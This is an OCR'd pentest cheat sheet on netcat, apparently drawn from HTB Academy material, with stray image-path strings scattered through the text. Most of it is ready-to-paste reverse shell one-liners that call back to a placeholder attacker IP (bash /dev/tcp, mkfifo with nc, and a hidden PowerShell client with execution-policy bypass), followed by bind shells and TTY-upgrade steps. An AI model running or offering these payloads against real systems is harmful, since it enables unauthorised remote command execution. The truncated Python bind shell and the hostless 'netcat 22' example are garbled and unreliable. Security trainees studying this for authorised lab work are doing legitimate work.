Netcat and alternatives

What is it

Netcat, ncat, or nc, is an excellent network utility for interacting with TCP/UDP ports. It can be used for many things during a pentest. Its primary usage is for connecting to shells. In addition to that, netcat can be used to connect to any listening port and interact with the service running on that port. For example, SSH is programmed to handle connections over port 22 to send all data and keys. We can connect to TCP port 22 with netcat netcat 22

Source HTB AcademyReverse shell

  • nc -lvnp 1234 set a listener

    • -l Listen mode, to wait for a connection to connect to us.

    • -v Verbose mode, so that we know when we receive a connection.

    • -n Disable DNS resolution and only connect from/to IPs, to speed up the connection.

    • -p 1234 Port number netcat is listening on, and the reverseconnection should be sent to.

Note we can use rlwrap in front of it this will allow us to use the arrows like in an usual shell

  • From our target

    • bash -c 'bash -i >& /dev/tcp/attack-machine-ip/1234 0>&1'

    • or rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc attack-machine-ip 1234 >/tmp/f

    • in powershell powershell -NoP -NonI -W Hidden -Exec Bypass -Command New-Object System.Net.Sockets.TCPClient("attacking-machine-ip",1234);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback + "PS " + (pwd).Path + "> ";$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()

Bind shell

  • Start a bind shell

    • rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/bash -i 2>&1|nc -lvp 1234 >/tmp/f

    • or python -c 'exec("""import socket as s,subprocess as sp;s1=s.socket(s.AF_INET,s.SOCK_STREAM);s1.setsockopt(s.SOL_SOCKET,s.SO_REUSEADDR, 1);s1.bind(("",1234));s1.listen(1);c,a=s1.accept();\nwhile True: d=c.recv(1024).decode();p=sp.Popen(d,shell=True,stdout=sp.PIPE,stderr=sp.PIPE,stdin=sp.PIPE);c.sendall(""")'• in powershell powershell -NoP -NonI -W Hidden -Exec Bypass -Command $listener = [System.Net.Sockets.TcpListener]1234; $listener.start();$client = $listener.AcceptTcpClient();$stream =$client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback + "PS " + (pwd).Path + " ";$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close();

  • Connect to your bind shell with netcat

    • nc target-ip 1234

Upgrade TTY

  • python -c 'import pty;pty.spawn("/bin/bash")'

  • ctrl+z background shell and get back on local terminal

  • stty raw -echo

  • fg

  • Enter 2 times to get back shell or reset and enter.

  • In another tab echo $TERM and stty size• Back to netcat shell

    • export TERM=xterm-256color or the value of the $term we got previously

    • stty rows 67 columns 318 put the values you had from ssty size

Transfert files withnetcat

Netcat alternatives

For Windows


Last updated